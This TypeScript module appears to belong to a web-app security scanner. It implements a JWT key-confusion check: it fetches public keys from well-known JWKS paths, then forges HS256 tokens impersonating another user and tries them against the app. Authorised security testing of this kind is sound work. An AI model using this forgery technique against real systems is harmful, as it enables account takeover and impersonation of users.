import { notApplicable } from '../../attack.js';
import { hmac } from '../../tools/forge-jwt.js';
import type { AppUnderAttack } from '../app.js';
import type { AppAttack } from '../app-attack.js';
import { openToken, tryForged } from '../tools/forged-tokens.js';
import { buildJwt, claimOther, listKeyForms, publicKeysOf } from '../tools/jwt.js';

/** Where apps publish their public keys. */
const keyPaths = [
  '/.well-known/jwks.json',
  '/.well-known/openid-configuration/jwks',
  '/jwks.json',
  '/jwks',
  '/oauth/jwks',
  '/oauth2/jwks',
  '/api/jwks.json',
];

export const jwtKeyConfusion: AppAttack = {
  title: "a token for another user, signed by HS256 with the app's own public key as the secret",
  asvs: ['9.1.2'],
  run,
};

async function run(app: AppUnderAttack) {
  const opened = await openToken(app);
  if ('none' in opened) return opened.none;
  const { attacker, victim, jwt } = opened;
  const alg = String(jwt.header.alg);
  if (/^HS/i.test(alg)) return notApplicable(`the tokens are signed by ${alg}: there is no public key`);
  const keys = await findKeys(app);
  if (keys.length === 0) return notApplicable(`the app publishes no public key at ${keyPaths.join(', ')}`);
  const claims = claimOther(jwt.claims, attacker.user, victim.user);
  const forged = keys.flatMap(listKeyForms).map(([form, secret]) => ({
    what: `HS256 and the ${form} of the public key as its secret`,
    token: buildJwt({ ...jwt.header, alg: 'HS256' }, claims, hmac(secret)),
  }));
  return tryForged(app, opened, forged);
}

async function findKeys(app: AppUnderAttack) {
  for (const path of keyPaths) {
    const answer = await app.fetch(path);
    const keys = answer?.status === 200 ? publicKeysOf(answer.body) : [];
    if (keys.length > 0) return keys;
  }
  return [];
}
